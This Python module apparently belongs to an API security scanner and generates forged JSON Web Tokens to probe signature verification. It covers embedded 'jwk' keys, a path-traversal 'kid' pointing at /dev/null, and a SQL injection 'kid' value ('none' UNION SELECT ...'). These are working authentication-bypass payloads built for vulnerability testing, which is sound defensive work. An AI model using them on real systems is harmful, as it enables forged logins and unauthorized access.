"""Tokens whose header names a key of our own: in the header, or where it can be guessed (RFC 8725, section 3.10)."""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from apiward.core.jsonvalue import Json
from apiward.scan.proofs.trials.signing_keys import pair_for
from apiward.scan.proofs.trials.tokens import HASHES, Jwt, encoded, signed

OWN: Final = b"a key of apiward's own, 32 bytes"
OTHER: Final = b"not the key that is named there!"
_UP: Final = "../" * 12


@dataclass(frozen=True, slots=True)
class Forgery:
    """A token in words, and its twin with the same header that is signed with another key."""

    words: str
    text: str
    twin: str


def forgeries(token: Jwt, claims: dict[str, Json]) -> Iterator[Forgery]:
    """Yield tokens with these claims: with the key in the header, then with a key that the header points to."""
    if token.algorithm in HASHES:
        shared: dict[str, Json] = {"kty": "oct", "k": encoded(OWN)}
        yield _shared("that brings its own key in its header", token, claims, {"jwk": shared}, OWN)
    yield _key_pair(token, claims)
    if "kid" not in token.header and token.algorithm not in HASHES:
        return
    for path in ("/dev/null", f"{_UP}dev/null"):
        yield _shared("whose header points to an empty file as its key", token, claims, {"kid": path}, b"")
    if "kid" in token.header:
        kid = "none' UNION SELECT 'apiward-own-key' -- "
        yield _shared("whose header asks the database for its key", token, claims, {"kid": kid}, b"apiward-own-key")


def _shared(words: str, token: Jwt, claims: dict[str, Json], more: dict[str, Json], key: bytes) -> Forgery:
    algorithm = token.algorithm if token.algorithm in HASHES else "HS256"
    header = {**token.header, **more}
    return Forgery(words, signed(header, claims, key, algorithm), signed(header, claims, OTHER, algorithm))


def _key_pair(token: Jwt, claims: dict[str, Json]) -> Forgery:
    key, other = pair_for(token)
    header = {**token.header, "jwk": key.jwk("apiward")} | ({"kid": "apiward"} if "kid" in token.header else {})
    return Forgery("that brings its own key in its header", key.token(header, claims), other.token(header, claims))
